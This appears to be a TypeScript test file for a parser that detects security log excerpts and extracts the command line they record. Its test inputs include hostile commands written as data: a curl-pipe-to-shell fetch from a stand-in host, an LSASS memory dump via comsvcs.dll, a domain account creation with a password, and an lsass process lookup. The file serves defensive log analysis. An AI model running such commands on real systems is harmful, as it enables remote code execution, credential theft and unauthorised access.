import { commandOfLogExcerpt, isLogExcerpt } from './log-excerpts';

describe('log excerpts in command lines', () => {
  it.each([
    ['Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c whoami', true],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe C:\\Windows\\System32\\cmd.exe CommandLine: cmd /c "net group"', true],
    ['ParentImage: C:\\Windows\\explorer.exe', true],
    ['process.command_line: /bin/sh -c "curl http://x.example/a | sh"', true],
    ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\x.dmp full', false],
    ['dism /Online /Get-ImageInfo /ImageFile:C:\\sources\\install.wim', false],
    ['net user backup_DA P@ssw0rd1234 /add /dom', false],
    ['wmic process where "CommandLine like \'%lsass%\'" get ProcessId', false],
  ])('%s is an excerpt: %s', (line, expected) => {
    expect(isLogExcerpt(line)).toBe(expected);
  });

  it('reads the command an excerpt recorded, up to the next field', () => {
    expect(commandOfLogExcerpt('Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c whoami /all User: CORP\\svc')).toBe(
      'cmd.exe /c whoami /all',
    );
    expect(commandOfLogExcerpt('ParentCommandLine: C:\\Windows\\explorer.exe CommandLine: rundll32.exe a.dll,Run')).toBe(
      'rundll32.exe a.dll,Run',
    );
    expect(commandOfLogExcerpt('process.command_line: /bin/sh -c id')).toBe('/bin/sh -c id');
  });

  it('gives nothing for an excerpt without a command line, or a line that is no excerpt', () => {
    expect(commandOfLogExcerpt('Image: C:\\Windows\\System32\\cmd.exe User: CORP\\svc')).toBeNull();
    expect(commandOfLogExcerpt('CommandLine: ')).toBeNull();
    expect(commandOfLogExcerpt('net user backup_DA P@ssw0rd1234 /add /dom')).toBeNull();
  });
});
